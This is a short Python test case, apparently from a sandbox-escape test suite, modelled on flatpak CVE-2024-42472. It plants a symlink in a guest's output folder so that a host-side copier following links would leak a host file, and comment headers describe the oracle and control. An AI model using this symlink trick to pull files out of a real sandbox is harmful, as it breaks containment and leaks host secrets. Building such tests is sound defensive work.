# guest: leaves a link to a directory of the host in the path of its product
# source: flatpak CVE-2024-42472
# attacks: the supervisor that copies products out
# walls: none
# observer: artifact_below
# oracle: the secret of the host's file is among the products; control: a copier that follows links
# status: ok
# credit: "state": "failed"
import os

from attack import hold

os.symlink("/decoy", "/vol/work/out/folder")
hold("left")
